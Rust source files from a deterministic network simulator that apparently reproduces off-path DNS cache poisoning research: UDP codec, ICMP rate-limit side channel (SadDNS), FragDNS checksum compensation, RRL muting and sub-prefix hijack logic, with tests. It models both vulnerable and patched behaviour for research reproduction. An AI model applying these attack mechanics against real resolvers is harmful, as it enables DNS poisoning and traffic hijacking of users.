        let flows = vec![
            FlowStats {
                protocol: Protocol::Tcp,
                local: Endpoint::new("30.0.0.1".parse().unwrap(), 49152),
                peer: Endpoint::new("123.0.0.53".parse().unwrap(), 53),
                state: "established",
                bytes_sent: 31,
                bytes_received: 158,
            },
            FlowStats {
                protocol: Protocol::Tcp,
                local: Endpoint::new("30.0.0.1".parse().unwrap(), 46080),
                peer: Endpoint::new("30.0.0.80".parse().unwrap(), 80),
                state: "time-wait",
                bytes_sent: 64,
                bytes_received: 120,
            },
        ];
        let text = s.render("ca", &flows);
        assert!(text.starts_with("ca: sent 1 pkt / 60 B"));
        assert!(text.contains("2 spoofed (egress-filtered)"));
        assert!(text.contains("verdicts: delivered 0, no-route 0, link-loss 0, egress-filtered 2, mtu-exceeded 0"));
        assert!(text.contains("TCP 30.0.0.1:49152 -> 123.0.0.53:53 [established] tx 31 B / rx 158 B"));
        assert!(text.contains("TCP 30.0.0.1:46080 -> 30.0.0.80:80 [time-wait] tx 64 B / rx 120 B"));
        assert_eq!(text.lines().count(), 5);
    }

    #[test]
    fn render_without_flows_or_drops_is_one_line() {
        let mut s = TrafficStats::default();
        s.record_sent(Protocol::Udp, 90);
        let text = s.render("client", &[]);
        assert_eq!(text.lines().count(), 1);
        assert!(text.contains("udp 1"));
    }

    #[test]
    fn render_breaks_down_verdicts() {
        let mut s = TrafficStats::default();
        s.record_sent(Protocol::Udp, 90);
        s.delivered = 4;
        s.link_loss = 2;
        s.mtu_exceeded = 1;
        let text = s.render("attacker", &[]);
        assert!(text.contains("verdicts: delivered 4, no-route 0, link-loss 2, egress-filtered 0, mtu-exceeded 1"));
        assert_eq!(text.lines().count(), 2, "no drop line when spoofed/in-transit counters are zero");
    }

    #[test]
    fn merge_accumulates_verdicts() {
        let mut a = TrafficStats { delivered: 1, no_route: 2, ..TrafficStats::default() };
        let b = TrafficStats { delivered: 10, link_loss: 3, mtu_exceeded: 4, ..TrafficStats::default() };
        a.merge(&b);
        assert_eq!(a.delivered, 11);
        assert_eq!(a.no_route, 2);
        assert_eq!(a.link_loss, 3);
        assert_eq!(a.mtu_exceeded, 4);
    }

    #[test]
    fn other_protocols_counted_only_in_totals() {
        let mut s = TrafficStats::default();
        s.record_sent(Protocol::Other(89), 40);
        assert_eq!(s.packets_sent, 1);
        assert_eq!(s.udp_sent, 0);
        assert_eq!(s.tcp_sent, 0);
        assert_eq!(s.icmp_sent, 0);
    }
}
