//! UDP header encoding/decoding and the [`UdpDatagram`] convenience type.
//!
//! DNS queries and responses in this workspace travel over UDP. The
//! challenge-response defences of RFC 5452 live in the UDP source port (16
//! bits of entropy) and the DNS transaction ID; SadDNS recovers the former
//! via the ICMP side channel, while FragDNS sidesteps both because they are
//! carried in the first fragment.

use crate::checksum::{self, Checksum};
use crate::ipv4::{Ipv4Header, Ipv4Packet, Protocol};
use crate::pool;
use serde::{Deserialize, Serialize};
use std::fmt;
use std::net::Ipv4Addr;

/// Length of the UDP header in bytes.
pub const UDP_HEADER_LEN: usize = 8;

/// A decoded UDP header.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct UdpHeader {
    /// Source port (the resolver's randomised ephemeral port for queries).
    pub src_port: u16,
    /// Destination port (53 for DNS servers).
    pub dst_port: u16,
    /// Length of UDP header plus payload, in bytes.
    pub length: u16,
    /// UDP checksum over the pseudo-header, header and payload.
    pub checksum: u16,
}

impl UdpHeader {
    /// Encodes the header to wire bytes.
    pub fn encode(&self) -> [u8; UDP_HEADER_LEN] {
        let mut buf = [0u8; UDP_HEADER_LEN];
        buf[0..2].copy_from_slice(&self.src_port.to_be_bytes());
        buf[2..4].copy_from_slice(&self.dst_port.to_be_bytes());
        buf[4..6].copy_from_slice(&self.length.to_be_bytes());
        buf[6..8].copy_from_slice(&self.checksum.to_be_bytes());
        buf
    }

    /// Decodes a header from wire bytes.
    pub fn decode(buf: &[u8]) -> Result<Self, UdpError> {
        if buf.len() < UDP_HEADER_LEN {
            return Err(UdpError::Truncated);
        }
        Ok(UdpHeader {
            src_port: u16::from_be_bytes([buf[0], buf[1]]),
            dst_port: u16::from_be_bytes([buf[2], buf[3]]),
            length: u16::from_be_bytes([buf[4], buf[5]]),
            checksum: u16::from_be_bytes([buf[6], buf[7]]),
        })
    }
}

/// A full UDP datagram together with the IPv4 addresses needed for the
/// pseudo-header checksum.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct UdpDatagram {
    /// IPv4 source address.
    pub src: Ipv4Addr,
    /// IPv4 destination address.
    pub dst: Ipv4Addr,
    /// UDP source port.
    pub src_port: u16,
    /// UDP destination port.
    pub dst_port: u16,
    /// Application payload (e.g. a DNS message).
    pub payload: Vec<u8>,
}

impl UdpDatagram {
    /// Creates a datagram.
    pub fn new(src: Ipv4Addr, dst: Ipv4Addr, src_port: u16, dst_port: u16, payload: Vec<u8>) -> Self {
        UdpDatagram { src, dst, src_port, dst_port, payload }
    }

    /// The UDP length field (header + payload).
    pub fn udp_length(&self) -> u16 {
        (UDP_HEADER_LEN + self.payload.len()) as u16
    }

    /// Computes the UDP checksum over pseudo-header, header and payload.
    pub fn compute_checksum(&self) -> u16 {
        let length = self.udp_length();
        let mut c = checksum::pseudo_header(self.src, self.dst, Protocol::Udp.number(), length);
        let header = UdpHeader { src_port: self.src_port, dst_port: self.dst_port, length, checksum: 0 };
        c.add_bytes(&header.encode());
        c.add_bytes(&self.payload);
        let ck = c.finish();
        // An all-zero checksum is transmitted as 0xffff (RFC 768).
        if ck == 0 {
            0xffff
        } else {
            ck
        }
    }

    /// Serialises the UDP header + payload (the IPv4 payload bytes).
    pub fn encode(&self) -> Vec<u8> {
        let header = UdpHeader {
            src_port: self.src_port,
            dst_port: self.dst_port,
            length: self.udp_length(),
            checksum: self.compute_checksum(),
        };
        let mut out = pool::take(self.udp_length() as usize);
        out.extend_from_slice(&header.encode());
        out.extend_from_slice(&self.payload);
        out
    }

    /// Wraps the datagram in an IPv4 packet with the given identification and TTL.
    pub fn into_packet(self, identification: u16, ttl: u8) -> Ipv4Packet {
        let payload = self.encode();
        let header = Ipv4Header::new(self.src, self.dst, Protocol::Udp, payload.len(), identification, ttl);
        pool::give(self.payload);
        Ipv4Packet::new(header, payload)
    }

    /// Parses a UDP datagram out of an IPv4 packet, verifying the checksum.
    ///
    /// This is the validation step that a spoofed FragDNS fragment must
    /// survive: after reassembly the attacker-modified payload is checksummed
    /// against the pseudo-header of the *genuine* first fragment.
    pub fn from_packet(pkt: &Ipv4Packet) -> Result<Self, UdpError> {
        if pkt.header.protocol != Protocol::Udp {
            return Err(UdpError::NotUdp);
        }
        if pkt.header.is_fragment() {
            return Err(UdpError::IsFragment);
        }
        let header = UdpHeader::decode(&pkt.payload)?;
        let declared = usize::from(header.length);
        if declared < UDP_HEADER_LEN || declared > pkt.payload.len() {
            return Err(UdpError::BadLength);
        }
        let mut payload = pool::take(declared - UDP_HEADER_LEN);
        payload.extend_from_slice(&pkt.payload[UDP_HEADER_LEN..declared]);
        let dgram = UdpDatagram {
            src: pkt.header.src,
            dst: pkt.header.dst,
            src_port: header.src_port,
            dst_port: header.dst_port,
            payload,
        };
        // Verify checksum (a zero checksum means "not computed" and is accepted).
        if header.checksum != 0 {
            let mut c = checksum::pseudo_header(dgram.src, dgram.dst, Protocol::Udp.number(), header.length);
            c.add_bytes(&pkt.payload[..declared]);
            if c.folded() != 0xffff {
                return Err(UdpError::BadChecksum);
            }
        }
        Ok(dgram)
    }
}

/// Computes the *partial* (non-complemented, folded) checksum contribution of
/// a byte slice. FragDNS uses this to predict the contribution of the second
/// fragment of the genuine response so that its spoofed replacement can carry
/// compensating bytes and keep the overall UDP checksum valid.
pub fn partial_sum(data: &[u8]) -> u16 {
    let mut c = Checksum::new();
    c.add_bytes(data);
    c.folded()
}

/// Errors returned by the UDP codec.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum UdpError {
    /// The buffer is shorter than a UDP header.
    Truncated,
    /// The IPv4 packet does not carry protocol 17.
    NotUdp,
    /// The packet is an unreassembled fragment.
    IsFragment,
    /// The UDP length field is inconsistent with the packet.
    BadLength,
    /// The UDP checksum does not verify.
    BadChecksum,
}

impl fmt::Display for UdpError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            UdpError::Truncated => write!(f, "truncated UDP header"),
            UdpError::NotUdp => write!(f, "not a UDP packet"),
            UdpError::IsFragment => write!(f, "packet is an IP fragment"),
            UdpError::BadLength => write!(f, "bad UDP length"),
            UdpError::BadChecksum => write!(f, "bad UDP checksum"),
        }
    }
}

impl std::error::Error for UdpError {}

#[cfg(test)]
mod tests {
    use super::*;

    fn dgram(payload: &[u8]) -> UdpDatagram {
        UdpDatagram::new("192.0.2.1".parse().unwrap(), "198.51.100.53".parse().unwrap(), 34567, 53, payload.to_vec())
    }

    #[test]
    fn roundtrip_through_packet() {
        let d = dgram(b"hello dns");
        let pkt = d.clone().into_packet(42, 64);
        let parsed = UdpDatagram::from_packet(&pkt).unwrap();
        assert_eq!(parsed, d);
    }

    #[test]
    fn checksum_detects_payload_tampering() {
        let d = dgram(b"authentic response");
        let mut pkt = d.into_packet(42, 64);
        // Tamper with one payload byte after the UDP header.
        let idx = UDP_HEADER_LEN + 3;
        pkt.payload[idx] ^= 0x55;
        // The IP header is still fine, but UDP checksum validation must fail.
        assert_eq!(UdpDatagram::from_packet(&pkt), Err(UdpError::BadChecksum));
    }

    #[test]
    fn computed_zero_checksum_transmitted_as_ffff() {
        // RFC 768: an all-zero checksum field means "no checksum", so a
        // *computed* 0x0000 must be transmitted as its complement-equal
        // 0xffff. Crafted so pseudo-header + header + payload sum to
        // exactly 0xffff: 0x0011 (proto) + 0x000a (len) + 0x0001 + 0x0002
        // (ports) + 0x000a (len again) + 0xffd7 (payload) = 0xffff, so the
        // complement is 0x0000 — and the wire value must be 0xffff.
        let d = UdpDatagram::new("0.0.0.0".parse().unwrap(), "0.0.0.0".parse().unwrap(), 1, 2, vec![0xff, 0xd7]);
        assert_eq!(d.compute_checksum(), 0xffff);
        // The receiver still verifies it like any other checksum.
        let pkt = d.clone().into_packet(1, 64);
        assert_eq!(UdpDatagram::from_packet(&pkt).unwrap(), d);
    }

    #[test]
    fn zero_checksum_is_accepted() {
        let d = dgram(b"no checksum");
        let mut pkt = d.clone().into_packet(1, 64);
        // Zero out the UDP checksum field (bytes 6..8 of the UDP header).
        pkt.payload[6] = 0;
        pkt.payload[7] = 0;
        let parsed = UdpDatagram::from_packet(&pkt).unwrap();
        assert_eq!(parsed.payload, d.payload);
    }

    #[test]
    fn fragment_rejected_until_reassembled() {
        let d = dgram(&[0u8; 100]);
        let mut pkt = d.into_packet(9, 64);
        pkt.header.more_fragments = true;
        assert_eq!(UdpDatagram::from_packet(&pkt), Err(UdpError::IsFragment));
    }

    #[test]
    fn wrong_protocol_rejected() {
        let d = dgram(b"x");
        let mut pkt = d.into_packet(9, 64);
        pkt.header.protocol = Protocol::Tcp;
        assert_eq!(UdpDatagram::from_packet(&pkt), Err(UdpError::NotUdp));
    }

    #[test]
    fn length_field_bounds_are_checked() {
        let d = dgram(b"abcdef");
        let mut pkt = d.into_packet(9, 64);
        // Declare a longer UDP length than the actual payload.
        let bogus = (pkt.payload.len() + 10) as u16;
        pkt.payload[4..6].copy_from_slice(&bogus.to_be_bytes());
        assert_eq!(UdpDatagram::from_packet(&pkt), Err(UdpError::BadLength));
    }

    #[test]
    fn udp_header_roundtrip() {
        let h = UdpHeader { src_port: 1194, dst_port: 500, length: 28, checksum: 0xbeef };
        assert_eq!(UdpHeader::decode(&h.encode()).unwrap(), h);
        assert!(UdpHeader::decode(&[0u8; 4]).is_err());
    }

    #[test]
    fn partial_sum_is_additive_on_word_boundaries() {
        let a = [0x12, 0x34, 0x56, 0x78];
        let b = [0x9a, 0xbc];
        let whole = partial_sum(&[&a[..], &b[..]].concat());
        let mut c = Checksum::new();
        c.add_u16(partial_sum(&a));
        c.add_u16(partial_sum(&b));
        assert_eq!(c.folded(), whole);
    }
}
