//! Token buckets and the ICMP error rate limit side channel.
//!
//! SadDNS (Man et al., CCS 2020; Section 3.2 of the paper) exploits the fact
//! that Linux applies a **single global** token bucket (50 tokens, refilled
//! once per jiffy up to 50/s) to outgoing ICMP error messages. By sending 50
//! spoofed UDP probes and then one verification probe from its own address,
//! an off-path attacker learns whether *any* of the 50 probed ports was open:
//! an open port consumes no token, leaving one for the verification probe.
//!
//! The patched behaviour (per-destination limits and/or a randomised global
//! limit, cf. CVE-2020-25705) removes the shared counter and therefore the
//! side channel. Both behaviours — and a no-limit mode — are implemented so
//! the measurement campaigns can mix vulnerable and patched resolvers.

use crate::time::SimTime;
use serde::{Deserialize, Serialize};

/// A classic token bucket.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct TokenBucket {
    capacity: u32,
    tokens: f64,
    /// Tokens added per second.
    refill_rate: f64,
    last_refill: SimTime,
}

impl TokenBucket {
    /// Creates a full bucket with the given capacity and refill rate
    /// (tokens per second).
    pub fn new(capacity: u32, refill_rate: f64) -> Self {
        TokenBucket { capacity, tokens: capacity as f64, refill_rate, last_refill: SimTime::ZERO }
    }

    /// Refills according to elapsed time and attempts to take one token.
    pub fn try_take(&mut self, now: SimTime) -> bool {
        self.refill(now);
        if self.tokens >= 1.0 {
            self.tokens -= 1.0;
            true
        } else {
            false
        }
    }

    /// Current (refilled) token count, rounded down.
    pub fn available(&mut self, now: SimTime) -> u32 {
        self.refill(now);
        self.tokens as u32
    }

    fn refill(&mut self, now: SimTime) {
        let elapsed = now.duration_since(self.last_refill).as_secs_f64();
        if elapsed > 0.0 {
            self.tokens = (self.tokens + elapsed * self.refill_rate).min(self.capacity as f64);
            self.last_refill = now;
        }
    }
}

/// How a host limits the ICMP error messages it originates.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub enum IcmpRateLimitPolicy {
    /// A single bucket shared by all destinations (Linux default prior to the
    /// SadDNS patches) — **vulnerable** to the side channel.
    Global {
        /// Bucket capacity (Linux: 50).
        capacity: u32,
        /// Refill rate in tokens per second (Linux: 50/s, i.e. 20 ms per token).
        per_second: f64,
    },
    /// A separate bucket per destination address (patched behaviour): probing
    /// from spoofed source addresses no longer consumes the attacker's budget.
    PerDestination {
        /// Bucket capacity per destination.
        capacity: u32,
        /// Refill rate per destination in tokens per second.
        per_second: f64,
    },
    /// No ICMP error rate limiting at all.
    Unlimited,
    /// The host never sends ICMP errors (e.g. firewalled) — the
    /// "resolvers should not send ICMP errors" countermeasure of Section 6.
    Silent,
}

impl IcmpRateLimitPolicy {
    /// The Linux-default global limit the paper's attack assumes.
    pub fn linux_default() -> Self {
        IcmpRateLimitPolicy::Global { capacity: 50, per_second: 50.0 }
    }
}

/// Stateful ICMP rate limiter implementing an [`IcmpRateLimitPolicy`].
#[derive(Debug, Clone)]
pub struct IcmpRateLimiter {
    policy: IcmpRateLimitPolicy,
    global: Option<TokenBucket>,
    per_dest: std::collections::HashMap<std::net::Ipv4Addr, TokenBucket>,
    /// Number of ICMP errors that were suppressed by the limiter.
    pub suppressed: u64,
    /// Number of ICMP errors that were allowed.
    pub allowed: u64,
}

impl IcmpRateLimiter {
    /// Creates a limiter for the given policy.
    pub fn new(policy: IcmpRateLimitPolicy) -> Self {
        let global = match policy {
            IcmpRateLimitPolicy::Global { capacity, per_second } => Some(TokenBucket::new(capacity, per_second)),
            _ => None,
        };
        IcmpRateLimiter { policy, global, per_dest: std::collections::HashMap::new(), suppressed: 0, allowed: 0 }
    }

    /// The policy this limiter enforces.
    pub fn policy(&self) -> IcmpRateLimitPolicy {
        self.policy
    }

    /// Returns whether an ICMP error destined to `dst` may be sent now.
    pub fn allow(&mut self, dst: std::net::Ipv4Addr, now: SimTime) -> bool {
        let ok = match self.policy {
            IcmpRateLimitPolicy::Silent => false,
            IcmpRateLimitPolicy::Unlimited => true,
            IcmpRateLimitPolicy::Global { .. } => self.global.as_mut().expect("global bucket").try_take(now),
            IcmpRateLimitPolicy::PerDestination { capacity, per_second } => {
                self.per_dest.entry(dst).or_insert_with(|| TokenBucket::new(capacity, per_second)).try_take(now)
            }
        };
        if ok {
            self.allowed += 1;
        } else {
            self.suppressed += 1;
        }
        ok
    }

    /// Whether this limiter exposes the global-counter side channel.
    pub fn is_globally_limited(&self) -> bool {
        matches!(self.policy, IcmpRateLimitPolicy::Global { .. })
    }
}

/// A simple request rate limiter used by authoritative nameservers (DNS
/// Response Rate Limiting). The SadDNS attacker abuses RRL to "mute" the
/// genuine nameserver (Section 3.2 / 5.2.2): a burst of queries exhausts the
/// budget so the genuine response is delayed past the attack window.
#[derive(Debug, Clone)]
pub struct ResponseRateLimiter {
    bucket: TokenBucket,
    enabled: bool,
    /// Responses suppressed (slipped/dropped) by RRL.
    pub suppressed: u64,
}

impl ResponseRateLimiter {
    /// An RRL limiter allowing `per_second` responses per second.
    pub fn new(per_second: u32) -> Self {
        ResponseRateLimiter { bucket: TokenBucket::new(per_second, per_second as f64), enabled: true, suppressed: 0 }
    }

    /// A disabled limiter (nameserver without RRL).
    pub fn disabled() -> Self {
        ResponseRateLimiter { bucket: TokenBucket::new(u32::MAX, f64::INFINITY), enabled: false, suppressed: 0 }
    }

    /// Whether RRL is enabled at all.
    pub fn is_enabled(&self) -> bool {
        self.enabled
    }

    /// Returns whether a response may be sent now.
    pub fn allow(&mut self, now: SimTime) -> bool {
        if !self.enabled {
            return true;
        }
        let ok = self.bucket.try_take(now);
        if !ok {
            self.suppressed += 1;
        }
        ok
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::net::Ipv4Addr;

    fn t(ms: u64) -> SimTime {
        SimTime::ZERO + crate::time::Duration::from_millis(ms)
    }

    #[test]
    fn token_bucket_depletes_and_refills() {
        let mut b = TokenBucket::new(3, 1.0); // 1 token per second
        assert!(b.try_take(t(0)));
        assert!(b.try_take(t(0)));
        assert!(b.try_take(t(0)));
        assert!(!b.try_take(t(0)));
        // After two seconds two tokens are back.
        assert!(b.try_take(t(2000)));
        assert!(b.try_take(t(2000)));
        assert!(!b.try_take(t(2000)));
    }

    #[test]
    fn token_accounting_is_exact_at_linux_rate() {
        // The Linux-default bucket: 50 tokens, 50/s (one per 20 ms).
        let mut b = TokenBucket::new(50, 50.0);
        for i in 0..50 {
            assert!(b.try_take(t(0)), "token {i} should be available");
        }
        assert!(!b.try_take(t(0)), "bucket must be empty after 50 takes");
        // 20 ms refills exactly one token — not two.
        assert!(b.try_take(t(20)));
        assert!(!b.try_take(t(20)));
        // A long idle period refills to capacity, never beyond it.
        assert_eq!(b.available(t(10_000)), 50);
        for _ in 0..50 {
            assert!(b.try_take(t(10_000)));
        }
        assert!(!b.try_take(t(10_000)));
    }

    #[test]
    fn fractional_refill_accumulates() {
        // 2.5 tokens/s: 200 ms yields half a token (not spendable), another
        // 200 ms completes it.
        let mut b = TokenBucket::new(10, 2.5);
        for _ in 0..10 {
            assert!(b.try_take(t(0)));
        }
        assert!(!b.try_take(t(200)));
        assert!(b.try_take(t(400)));
        assert!(!b.try_take(t(400)));
    }

    #[test]
    fn token_bucket_caps_at_capacity() {
        let mut b = TokenBucket::new(2, 100.0);
        assert_eq!(b.available(t(10_000)), 2);
    }

    #[test]
    fn global_limiter_exposes_side_channel_semantics() {
        // 50 spoofed probes exhaust the budget; the verification probe from
        // the attacker's own address is then also suppressed.
        let mut lim = IcmpRateLimiter::new(IcmpRateLimitPolicy::linux_default());
        let spoofed: Ipv4Addr = "123.0.0.53".parse().unwrap();
        let attacker: Ipv4Addr = "6.6.6.6".parse().unwrap();
        for _ in 0..50 {
            assert!(lim.allow(spoofed, t(0)));
        }
        assert!(!lim.allow(attacker, t(0)), "global budget shared with the attacker's own probe");
        assert!(lim.is_globally_limited());
        assert_eq!(lim.allowed, 50);
        assert_eq!(lim.suppressed, 1);
    }

    #[test]
    fn per_destination_limiter_closes_side_channel() {
        let mut lim = IcmpRateLimiter::new(IcmpRateLimitPolicy::PerDestination { capacity: 50, per_second: 50.0 });
        let spoofed: Ipv4Addr = "123.0.0.53".parse().unwrap();
        let attacker: Ipv4Addr = "6.6.6.6".parse().unwrap();
        for _ in 0..50 {
            assert!(lim.allow(spoofed, t(0)));
        }
        // The attacker's own verification probe uses a different bucket and
        // always gets an answer — no information about the spoofed probes.
        assert!(lim.allow(attacker, t(0)));
        assert!(!lim.is_globally_limited());
    }

    #[test]
    fn silent_and_unlimited_policies() {
        let dst: Ipv4Addr = "10.0.0.1".parse().unwrap();
        let mut silent = IcmpRateLimiter::new(IcmpRateLimitPolicy::Silent);
        assert!(!silent.allow(dst, t(0)));
        let mut open = IcmpRateLimiter::new(IcmpRateLimitPolicy::Unlimited);
        for _ in 0..1000 {
            assert!(open.allow(dst, t(0)));
        }
    }

    #[test]
    fn global_budget_refills_over_time() {
        let mut lim = IcmpRateLimiter::new(IcmpRateLimitPolicy::linux_default());
        let dst: Ipv4Addr = "10.0.0.1".parse().unwrap();
        for _ in 0..50 {
            lim.allow(dst, t(0));
        }
        assert!(!lim.allow(dst, t(0)));
        // 20ms later one token has been refilled (50 per second).
        assert!(lim.allow(dst, t(21)));
    }

    #[test]
    fn rrl_mutes_after_burst() {
        let mut rrl = ResponseRateLimiter::new(10);
        let mut allowed = 0;
        for _ in 0..4000 {
            if rrl.allow(t(0)) {
                allowed += 1;
            }
        }
        assert_eq!(allowed, 10, "burst of queries exhausts the RRL budget");
        assert_eq!(rrl.suppressed, 3990);
        assert!(rrl.is_enabled());
    }

    #[test]
    fn disabled_rrl_never_mutes() {
        let mut rrl = ResponseRateLimiter::disabled();
        for _ in 0..10_000 {
            assert!(rrl.allow(t(0)));
        }
        assert!(!rrl.is_enabled());
    }
}
