//! IPv4 prefixes (CIDR blocks).
//!
//! Prefixes appear in two places in the workspace: in the data plane of the
//! network simulator (route overrides installed by a successful BGP hijack)
//! and in the control plane of the `bgp` crate (announcements, ROAs,
//! longest-prefix-match RIBs). Both use this type.
//!
//! The paper's HijackDNS analysis hinges on prefix lengths: announcements
//! more specific than /24 are filtered by most networks, so an address is
//! considered *sub-prefix hijackable* exactly when its covering announcement
//! is shorter than /24 (Section 5.1.2).

use serde::{Deserialize, Serialize};
use std::fmt;
use std::net::Ipv4Addr;
use std::str::FromStr;

/// An IPv4 CIDR prefix.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub struct Prefix {
    /// Network address (host bits are zeroed by the constructor).
    pub addr: Ipv4Addr,
    /// Prefix length in bits (0–32).
    pub len: u8,
}

impl Prefix {
    /// Creates a prefix, masking out host bits.
    pub fn new(addr: Ipv4Addr, len: u8) -> Self {
        let len = len.min(32);
        let masked = u32::from(addr) & Self::mask(len);
        Prefix { addr: Ipv4Addr::from(masked), len }
    }

    /// The default route `0.0.0.0/0`.
    pub fn default_route() -> Self {
        Prefix { addr: Ipv4Addr::UNSPECIFIED, len: 0 }
    }

    /// The /32 host prefix of an address.
    pub fn host(addr: Ipv4Addr) -> Self {
        Prefix::new(addr, 32)
    }

    fn mask(len: u8) -> u32 {
        if len == 0 {
            0
        } else {
            u32::MAX << (32 - u32::from(len))
        }
    }

    /// Whether `addr` lies inside this prefix.
    pub fn contains(&self, addr: Ipv4Addr) -> bool {
        (u32::from(addr) & Self::mask(self.len)) == u32::from(self.addr)
    }

    /// Whether `other` is fully covered by this prefix (`other` is equal to
    /// or more specific than `self`).
    pub fn covers(&self, other: &Prefix) -> bool {
        other.len >= self.len && self.contains(other.addr)
    }

    /// The first of the two halves obtained by splitting this prefix one bit
    /// deeper — the canonical "sub-prefix" used in sub-prefix hijacks.
    /// Returns `None` for /32.
    pub fn first_subprefix(&self) -> Option<Prefix> {
        if self.len >= 32 {
            None
        } else {
            Some(Prefix::new(self.addr, self.len + 1))
        }
    }

    /// Number of addresses covered by this prefix.
    pub fn size(&self) -> u64 {
        1u64 << (32 - u32::from(self.len))
    }
}

impl fmt::Display for Prefix {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}/{}", self.addr, self.len)
    }
}

/// Error parsing a prefix from text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ParsePrefixError(String);

impl fmt::Display for ParsePrefixError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "invalid prefix: {}", self.0)
    }
}

impl std::error::Error for ParsePrefixError {}

impl FromStr for Prefix {
    type Err = ParsePrefixError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        let (addr, len) = s.split_once('/').ok_or_else(|| ParsePrefixError(s.to_string()))?;
        let addr: Ipv4Addr = addr.parse().map_err(|_| ParsePrefixError(s.to_string()))?;
        let len: u8 = len.parse().map_err(|_| ParsePrefixError(s.to_string()))?;
        if len > 32 {
            return Err(ParsePrefixError(s.to_string()));
        }
        Ok(Prefix::new(addr, len))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parses_and_masks_host_bits() {
        let p: Prefix = "30.0.0.77/22".parse().unwrap();
        assert_eq!(p.addr, Ipv4Addr::new(30, 0, 0, 0));
        assert_eq!(p.len, 22);
        assert_eq!(p.to_string(), "30.0.0.0/22");
    }

    #[test]
    fn containment() {
        let p: Prefix = "30.0.0.0/22".parse().unwrap();
        assert!(p.contains("30.0.1.200".parse().unwrap()));
        assert!(p.contains("30.0.3.255".parse().unwrap()));
        assert!(!p.contains("30.0.4.0".parse().unwrap()));
    }

    #[test]
    fn covers_more_specifics() {
        let p: Prefix = "30.0.0.0/22".parse().unwrap();
        let sub: Prefix = "30.0.1.0/24".parse().unwrap();
        assert!(p.covers(&sub));
        assert!(!sub.covers(&p));
        assert!(p.covers(&p));
    }

    #[test]
    fn subprefix_splitting() {
        let p: Prefix = "30.0.0.0/22".parse().unwrap();
        let sub = p.first_subprefix().unwrap();
        assert_eq!(sub.to_string(), "30.0.0.0/23");
        assert!(Prefix::host("1.2.3.4".parse().unwrap()).first_subprefix().is_none());
    }

    #[test]
    fn sizes() {
        assert_eq!(Prefix::from_str("10.0.0.0/24").unwrap().size(), 256);
        assert_eq!(Prefix::from_str("10.0.0.0/22").unwrap().size(), 1024);
        assert_eq!(Prefix::default_route().size(), 1 << 32);
    }

    #[test]
    fn invalid_inputs_rejected() {
        assert!("10.0.0.0".parse::<Prefix>().is_err());
        assert!("10.0.0.0/33".parse::<Prefix>().is_err());
        assert!("nonsense/8".parse::<Prefix>().is_err());
    }

    #[test]
    fn default_route_contains_everything() {
        let d = Prefix::default_route();
        assert!(d.contains("255.255.255.255".parse().unwrap()));
        assert!(d.contains("0.0.0.1".parse().unwrap()));
    }
}
