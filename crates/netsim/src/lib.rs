//! # netsim — deterministic packet-level network simulator
//!
//! `netsim` is the lowest substrate of the `cross-layer-attacks` workspace. It
//! provides everything the off-path DNS cache poisoning attacks of
//! *"From IP to Transport and Beyond: Cross-Layer Attacks Against Applications"*
//! (SIGCOMM 2021) need from the network and the victim operating systems:
//!
//! * byte-accurate **IPv4 / UDP / TCP / ICMP** wire formats with real
//!   checksums ([`ipv4`], [`udp`], [`tcp`], [`icmp`], [`checksum`]),
//! * a generic, object-safe **transport socket API** with a deterministic
//!   TCP implementation (seeded ISNs, three-way handshake, MSS-based
//!   segmentation, RST/FIN teardown) beside the UDP datagram path
//!   ([`transport`], [`tcp`]),
//! * **IPv4 fragmentation and reassembly**, including the defragmentation
//!   cache an attacker poisons in the FragDNS methodology ([`frag`]),
//! * the **global ICMP error rate limit** side channel exploited by SadDNS
//!   and its patched variants ([`ratelimit`]),
//! * an **OS-like UDP/ICMP stack model** (open ports, port-unreachable
//!   generation, path-MTU discovery, IP-ID assignment policies) ([`stack`],
//!   [`pmtud`]),
//! * **links** with latency, loss and MTU, a routing fabric with
//!   longest-prefix-match route overrides (the data-plane effect of a BGP
//!   hijack) and **source-address spoofing / egress-filtering** semantics
//!   ([`link`], [`engine`]),
//! * a single-threaded **discrete-event engine** with deterministic, seeded
//!   randomness, per-node traffic accounting and a packet trace recorder
//!   ([`engine`], [`trace`], [`stats`]).
//!
//! The simulator is deliberately synchronous and deterministic (smoltcp-style
//! polling rather than an async runtime): the attacks under study are
//! protocol-state-machine races, and reproducing the paper's tables requires
//! bit-for-bit repeatable experiments.
//!
//! ## Quick tour
//!
//! ```
//! use netsim::prelude::*;
//!
//! // Build a two-host network.
//! let mut sim = Simulator::new(7);
//! let a_addr: Ipv4Addr = "10.0.0.1".parse().unwrap();
//! let b_addr: Ipv4Addr = "10.0.0.2".parse().unwrap();
//! let a = sim.add_node("a", vec![a_addr], EchoNode::default());
//! let b = sim.add_node("b", vec![b_addr], EchoNode::default());
//! sim.connect(a, b, Link::with_latency(Duration::from_millis(5)));
//!
//! // Inject a UDP datagram from node `a` to node `b` and run the simulation.
//! let pkt = UdpDatagram::new(a_addr, b_addr, 1000, 2000, b"ping".to_vec())
//!     .into_packet(1, 64);
//! sim.inject(a, pkt);
//! sim.run();
//! assert!(sim.stats(b).udp_received >= 1);
//! ```
#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod checksum;
pub mod engine;
pub mod fasthash;
pub mod frag;
pub mod icmp;
pub mod ipv4;
pub mod link;
pub mod pmtud;
pub mod pool;
pub mod prefix;
pub mod ratelimit;
pub mod stack;
pub mod stats;
pub mod tcp;
pub mod time;
pub mod trace;
pub mod transport;
pub mod udp;
pub mod wheel;

/// Convenience re-exports for downstream crates and examples.
pub mod prelude {
    pub use crate::engine::{
        Ctx, EchoNode, EngineCounters, Node, NodeId, Simulator, SinkNode, StubCtx, StubHandler, StubId, StubState,
        StubTimer,
    };
